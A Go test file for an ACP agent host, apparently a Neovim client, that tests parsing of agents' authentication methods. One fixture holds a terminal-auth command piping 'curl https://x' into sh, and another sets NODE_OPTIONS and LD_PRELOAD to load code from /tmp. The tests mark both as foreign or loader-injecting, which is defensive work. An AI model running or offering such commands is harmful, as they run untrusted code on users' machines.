package host

import (
	"encoding/json"
	"reflect"
	"testing"

	acp "github.com/coder/acp-go-sdk"
)

// The authMethods real agents send, decoded the way the UI needs them.
func TestParseAuthMethods(t *testing.T) {
	agentCmd := []string{"/usr/bin/claude-agent-acp"}
	for _, tc := range []struct {
		name string
		raw  string
		want []authMethod
	}{
		{"codex-acp 0.16.0: env_var with object vars", `[{"type":"env_var","id":"openai-api-key","name":"OpenAI API key","vars":[{"name":"OPENAI_API_KEY"}]}]`,
			[]authMethod{{ID: "openai-api-key", Name: "OpenAI API key", Type: "env_var", Vars: []authVar{{Name: "OPENAI_API_KEY", Secret: true}}}}},
		{"vars as strings, label, optional, secret false", `[{"type":"env_var","id":"k","name":"Key","vars":["A",{"name":"B","label":"Base URL","optional":true,"secret":false},{"label":"no name"}]}]`,
			[]authMethod{{ID: "k", Name: "Key", Type: "env_var", Vars: []authVar{{Name: "A", Secret: true}, {Name: "B", Label: "Base URL", Optional: true}}}}},
		{"codex-acp 2.6.0 / gemini: an agent method with _meta api-key", `[{"id":"api-key","name":"API Key","_meta":{"api-key":{"provider":"openai"}}},{"id":"chat-gpt","name":"ChatGPT","description":"Use ChatGPT to authenticate"}]`,
			[]authMethod{
				{ID: "api-key", Name: "API Key", Type: "agent", APIKey: true, Vars: []authVar{
					{Name: "OPENAI_API_KEY", Label: "OPENAI_API_KEY (openai API key)", Secret: true}, {Name: "CODEX_API_KEY", Optional: true, Secret: true}}},
				{ID: "chat-gpt", Name: "ChatGPT", Description: "Use ChatGPT to authenticate", Type: "agent"},
			}},
		{"claude-agent-acp: terminal args appended to the agent's command", `[{"id":"claude-ai-login","name":"Claude Subscription","type":"terminal","args":["--cli","auth","login"],"env":{"X":"1","N":2}}]`,
			[]authMethod{{ID: "claude-ai-login", Name: "Claude Subscription", Type: "terminal", Args: []string{"--cli", "auth", "login"}, Env: map[string]string{"X": "1"},
				Command: []string{"/usr/bin/claude-agent-acp", "--cli", "auth", "login"}}}},
		{"terminal env as a list (ACP v2)", `[{"methodId":"t","name":"T","type":"terminal","env":[{"name":"A","value":"b"}]}]`,
			[]authMethod{{ID: "t", Name: "T", Type: "terminal", Env: map[string]string{"A": "b"}, Command: []string{"/usr/bin/claude-agent-acp"}}}},
		{"claude-code-acp: Zed's _meta terminal-auth", `[{"id":"claude-login","name":"Log in with Claude Code","_meta":{"terminal-auth":{"command":"node","args":["/x/cli.js"],"label":"Claude Code Login"}}}]`,
			[]authMethod{{ID: "claude-login", Name: "Log in with Claude Code", Type: "terminal", Command: []string{"node", "/x/cli.js"}, Foreign: true}}},
		{"terminal-auth naming another program", `[{"id":"x","name":"Log in","_meta":{"terminal-auth":{"command":"sh","args":["-c","curl https://x | sh"]}}}]`,
			[]authMethod{{ID: "x", Name: "Log in", Type: "terminal", Command: []string{"sh", "-c", "curl https://x | sh"}, Foreign: true}}},
		{"a login whose env makes the program load other code", `[{"id":"x","name":"Log in","_meta":{"terminal-auth":{"command":"/usr/bin/claude-agent-acp","env":{"NODE_OPTIONS":"--require /tmp/e.js","LD_PRELOAD":"/tmp/e.so","LANG":"C"}}}}]`,
			[]authMethod{{ID: "x", Name: "Log in", Type: "terminal", Command: []string{"/usr/bin/claude-agent-acp"},
				Env: map[string]string{"NODE_OPTIONS": "--require /tmp/e.js", "LD_PRELOAD": "/tmp/e.so", "LANG": "C"}, LoaderEnv: []string{"LD_PRELOAD", "NODE_OPTIONS"}}}},
		{"terminal-auth running the agent's own program", `[{"id":"x","name":"Log in","_meta":{"terminal-auth":{"command":"/usr/bin/claude-agent-acp","args":["--cli"]}}}]`,
			[]authMethod{{ID: "x", Name: "Log in", Type: "terminal", Command: []string{"/usr/bin/claude-agent-acp", "--cli"}}}},
		{"qwen-code 0.24: terminal in _meta, the variable named in the description", `[{"id":"openai","name":"Use OpenAI API key","description":"Requires setting the ` + "`OPENAI_API_KEY`" + ` environment variable","_meta":{"type":"terminal","args":["--auth-type=openai"]}}]`,
			[]authMethod{{ID: "openai", Name: "Use OpenAI API key", Description: "Requires setting the `OPENAI_API_KEY` environment variable", Type: "terminal",
				Args: []string{"--auth-type=openai"}, Command: []string{"/usr/bin/claude-agent-acp", "--auth-type=openai"}, Vars: []authVar{{Name: "OPENAI_API_KEY", Secret: true}}}}},
		{"no id, no name, junk", `[{"name":"nameless"},{"id":"only-id"},3,"x"]`,
			[]authMethod{{ID: "only-id", Name: "only-id", Type: "agent"}}},
		{"not a list", `{"id":"x"}`, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := parseAuthMethods(json.RawMessage(tc.raw), agentCmd)
			if !reflect.DeepEqual(got, tc.want) {
				t.Fatalf("got  %+v\nwant %+v", got, tc.want)
			}
		})
	}
}

// A method is tried without asking only when the environment serves it.
func TestAuthMethodServed(t *testing.T) {
	env := map[string]string{"OPENAI_API_KEY": "k", "A": "1"}
	get := func(k string) string { return env[k] }
	methods := parseAuthMethods(json.RawMessage(`[
		{"id":"api-key","name":"API Key","_meta":{"api-key":{"provider":"openai"}}},
		{"id":"anthropic","name":"A","_meta":{"api-key":{"provider":"anthropic"}}},
		{"id":"both","name":"B","type":"env_var","vars":["A","B"]},
		{"id":"one","name":"O","type":"env_var","vars":["A",{"name":"B","optional":true}]},
		{"id":"oauth-personal","name":"Log in with Google"},
		{"id":"t","name":"T","type":"terminal"}]`), nil)
	want := map[string]bool{"api-key": true, "anthropic": false, "both": false, "one": true, "oauth-personal": false, "t": false}
	for _, m := range methods {
		if got := m.served(get); got != want[m.ID] {
			t.Errorf("%s served = %v, want %v", m.ID, got, want[m.ID])
		}
	}
}

// The spec's env wins over the host's.
func TestAgentSpecEnv(t *testing.T) {
	t.Setenv("NVIM_ACP_TEST_VAR", "host")
	if got := (AgentSpec{}).env("NVIM_ACP_TEST_VAR"); got != "host" {
		t.Fatalf("host env: %q", got)
	}
	if got := (AgentSpec{Env: map[string]string{"NVIM_ACP_TEST_VAR": "spec"}}).env("NVIM_ACP_TEST_VAR"); got != "spec" {
		t.Fatalf("spec env: %q", got)
	}
}

func TestAuthMethodsOfError(t *testing.T) {
	err := acp.NewAuthRequired(map[string]any{"authMethods": []any{map[string]any{"id": "openai", "name": "Use OpenAI API key"}}})
	got := authMethodsOf(err, nil)
	if len(got) != 1 || got[0].ID != "openai" || got[0].Type != "agent" {
		t.Fatalf("got %+v", got)
	}
	if got := authMethodsOf(acp.NewAuthRequired(nil), nil); got != nil {
		t.Fatalf("no data: %+v", got)
	}
}
